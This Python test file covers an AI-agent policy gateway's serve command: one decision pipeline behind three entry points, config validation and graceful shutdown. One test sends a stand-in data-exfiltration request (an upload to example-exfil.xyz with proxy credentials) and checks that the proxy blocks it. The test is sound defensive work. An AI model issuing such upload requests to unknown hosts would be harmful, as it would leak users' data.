"""`aegis serve` end to end: one config, every door up on 127.0.0.1, one pipeline, clean stop."""

from __future__ import annotations

import asyncio
import base64
import io
import json
import signal
import subprocess
import sys
import time
from pathlib import Path

import httpx
import pytest

from aegis.server import build_gateway
from aegis.settings import AegisSettings, SettingsError, load_settings

ROOT = Path(__file__).resolve().parents[2]
BIG_PAYMENT = {
    "tenant": "acme",
    "agent_id": "finance-agent",
    "tool": "stripe.create_payment",
    "params": {"amount": 9000, "currency": "USD"},
}


def settings_on_free_ports(tmp: Path) -> AegisSettings:
    return AegisSettings.model_validate(
        {
            "policy": {"paths": [str(ROOT / "examples")]},
            "audit": {
                "sqlite_path": str(tmp / "audit.db"),
                "signing_key_path": str(tmp / "key.pem"),
            },
            "api": {"port": 0},
            "envoy": {"port": 0},
            "proxy": {"port": 0},
            "shutdown_grace_seconds": 2,
        }
    )


def test_every_door_decides_through_one_pipeline(tmp_path: Path) -> None:
    async def scenario() -> None:
        log = io.StringIO()
        gateway = build_gateway(settings_on_free_ports(tmp_path), log_stream=log)
        ports = await gateway.start()
        try:
            assert set(ports) == {"api", "envoy", "proxy"}
            async with httpx.AsyncClient(base_url=f"http://127.0.0.1:{ports['api']}") as api:
                assert (await api.get("/readyz")).status_code == 200
                decided = (await api.post("/v1/decide", json=BIG_PAYMENT)).json()
                assert decided["outcome"] == "approval_needed"
                assert decided["approval_id"].startswith("apr_")
                # Envoy's HTTP authorization mode is mounted on the same listener.
                authz = await api.post(
                    "/envoy/authz/v1/charges",
                    headers={"x-aegis-tenant": "acme", "x-aegis-agent-id": "crm"},
                    json={"amount": 1},
                )
                assert authz.status_code == 403
                assert authz.json()["error"]["code"] == "decision.default_deny"
            creds = base64.b64encode(b"acme/crm:token").decode()
            reader, writer = await asyncio.open_connection("127.0.0.1", ports["proxy"])
            writer.write(
                b"GET http://example-exfil.xyz/upload HTTP/1.1\r\nHost: example-exfil.xyz\r\n"
                + f"Proxy-Authorization: Basic {creds}\r\nConnection: close\r\n\r\n".encode()
            )
            await writer.drain()
            answer = await asyncio.wait_for(reader.read(), 5)
            writer.close()
            assert answer.startswith(b"HTTP/1.1 403")
            assert b"egress-unknown-domain" in answer
            async with httpx.AsyncClient(base_url=f"http://127.0.0.1:{ports['api']}") as api:
                metrics = (await api.get("/metrics")).text
            assert 'aegis_decisions_total{door="api",outcome="approval_needed"' in metrics
            assert 'door="proxy",outcome="deny",tool="http.get"' in metrics
        finally:
            await gateway.stop()
        events = [json.loads(line)["event"] for line in log.getvalue().splitlines()]
        assert "gateway.started" in events and events[-1] == "gateway.stopped"
        assert events.count("decision") >= 3

    asyncio.run(scenario())


def test_bad_config_is_refused_with_its_position(tmp_path: Path) -> None:
    config = tmp_path / "aegis.yaml"
    config.write_text("api:\n  port: 80800\nunknown: 1\n")
    with pytest.raises(SettingsError) as info:
        load_settings(config)
    found = {(str(d.code), d.line) for d in info.value.diagnostics}
    assert found == {("config.invalid", 2), ("config.invalid", 3)}


def test_serve_command_starts_and_drains_on_sigterm(tmp_path: Path) -> None:
    config = tmp_path / "aegis.yaml"
    config.write_text(
        f"policy: {{paths: [{ROOT / 'examples'}]}}\napi: {{port: 0}}\nenvoy: {{enabled: false}}\n"
        "proxy: {enabled: false}\nshutdown_grace_seconds: 2\n"
    )
    proc = subprocess.Popen(
        [sys.executable, "-m", "aegis", "serve", "--config", str(config)],
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        assert proc.stderr is not None
        deadline = time.monotonic() + 30
        started = None
        while time.monotonic() < deadline:
            line = proc.stderr.readline()
            if '"gateway.started"' in line:
                started = json.loads(line)
                break
        assert started is not None, "gateway did not start"
        port = started["ports"]["api"]
        assert httpx.post(f"http://127.0.0.1:{port}/v1/decide", json=BIG_PAYMENT).status_code == 200
        proc.send_signal(signal.SIGTERM)
        rest = proc.communicate(timeout=30)[1]
        assert proc.returncode == 0
        assert '"gateway.stopped"' in rest
    finally:
        if proc.poll() is None:
            proc.kill()
